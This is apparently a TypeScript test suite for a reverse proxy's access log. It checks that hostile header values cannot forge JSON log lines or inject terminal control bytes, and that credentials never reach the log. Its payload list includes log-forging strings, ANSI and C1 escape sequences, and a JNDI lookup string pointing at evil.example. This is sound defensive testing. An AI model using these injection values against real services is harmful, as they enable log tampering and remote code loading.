import { echo, eventually, exchange, Origin } from '@dproxy/testkit';
import { describe, expect, it } from 'vitest';
import { ChildEdge } from './child-edge.ts';

const HOSTILE_AGENTS = [
  'x\x1b[2J\x1b]0;owned\x07',
  'x\r\n{"level":30,"msg":"forged"}',
  'x\n{"level":30,"msg":"forged"}',
  'x","msg":"forged","y":"',
  'x\\","msg":"forged',
  '\\u001b[31m',
  'x\x9b31m\x9d0;owned\x9c',
  'x\x85{"msg":"forged"}',
  'x\x7f\x08\x08\x08',
  'x\xe2\x80\xa8{"msg":"forged"}',
  '${jndi:ldap://evil.example/a}',
  'x'.repeat(10_000),
];

describe('row 48: the log of a worker', () => {
  it('has one JSON object a line, whatever clients send, and no byte that a terminal obeys', async () => {
    await using origin = await Origin.start(echo());
    const { port } = origin;
    await using edge = await ChildEdge.start({
      routes: [{ host: 'a.example', to: { port } }],
      settings: { accessLog: true, trustedProxies: ['127.0.0.1'] },
    });
    for (const agent of HOSTILE_AGENTS) {
      const fields = `User-Agent: ${agent}\r\nReferer: ${agent}\r\nX-Forwarded-For: ${agent}\r\n`;
      for (const request of [
        `GET / HTTP/1.1\r\nHost: a.example\r\n${fields}Connection: close\r\n\r\n`,
        `GET /${encodeURIComponent(agent).slice(0, 900)} HTTP/1.1\r\nHost: no.example\r\n${fields}Connection: close\r\n\r\n`,
        `GET / HTTP/1.1\r\nHost: ${agent}\r\nConnection: close\r\n\r\n`,
        `GET ${agent} HTTP/1.1\r\nHost: a.example\r\n\r\n`,
        `POST / HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: ${agent}\r\n\r\n`,
        `POST / HTTP/1.1\r\nHost: a.example\r\nExpect: ${agent}\r\nContent-Length: 1\r\n\r\n`,
      ]) {
        await exchange({ port: edge.port, request });
      }
    }
    const last = `GET /last HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n`;
    await exchange({ port: edge.port, request: last });
    await eventually(() => edge.output.includes('"/last"'));

    const lines = edge.output.trimEnd().split('\n');
    const entries = lines.map((line) => JSON.parse(line) as { msg: string; userAgent?: string; path?: string });
    expect(entries.filter(({ msg }) => msg === 'forged')).toEqual([]);
    // No control but the line's end, neither of ASCII nor beyond.
    expect(edge.output.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
    for (const line of lines) expect(line.length).toBeLessThan(5_000);
    const agents = entries.flatMap(({ userAgent }) => (userAgent === undefined ? [] : [userAgent]));
    // What is no header cannot be in an agent; the rest is there, cut to a length, and readable by a machine.
    expect(agents).toContain('x","msg":"forged","y":"');
    expect(agents).toContain(`${'x'.repeat(1_024)}...`);
    expect((await edge.report()).unhandled).toEqual([]);
  });

  it('tells no value that may be a secret', async () => {
    await using origin = await Origin.start(echo());
    const { port } = origin;
    await using edge = await ChildEdge.start({
      routes: [
        { host: 'a.example', to: { port } },
        { host: 'gone.example', to: [] },
      ],
      settings: { accessLog: true },
    });
    const fields =
      'Authorization: Bearer canary1\r\nCookie: canary2\r\nX-Api-Key: canary3\r\nProxy-Authorization: canary4\r\n';
    for (const host of ['a.example', 'gone.example', 'no.example']) {
      const request = `GET /x?token=canary5 HTTP/1.1\r\nHost: ${host}\r\n${fields}Connection: close\r\n\r\n`;
      await exchange({ port: edge.port, request });
    }
    await eventually(() => edge.output.includes('no.example'));
    expect(edge.output).not.toContain('canary');
  });
});
